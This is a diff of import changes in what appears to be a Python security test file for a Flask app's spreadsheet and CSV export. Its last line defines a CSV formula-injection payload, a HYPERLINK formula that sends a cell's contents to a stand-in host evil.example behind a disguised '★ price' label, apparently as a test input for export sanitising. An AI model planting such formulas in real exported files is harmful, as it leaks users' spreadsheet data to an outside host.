@@ -14,13 +14,13 @@ from flask.testing import FlaskClient
 from hypothesis import given
 from hypothesis import strategies as st
 
+from app.providers.base import Batch, Quote, VolumeKind
 from app.runtime import Runtime
 from app.spreadsheet import RUNS, Cell, csv_text, unguard
-from db.embedded import Endpoints
+from db.embedded.servers import Endpoints
 from jobs.ingest import Ingest, Report
-from jobs.providers.base import Batch, Quote, VolumeKind
 from pages.items import as_csv, read
-from tests.app.test_cli import run
+from tests.commands.test_cli import run
 from tests.security.conftest import CALLBACKS, token_of
 
 EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"★ price")'
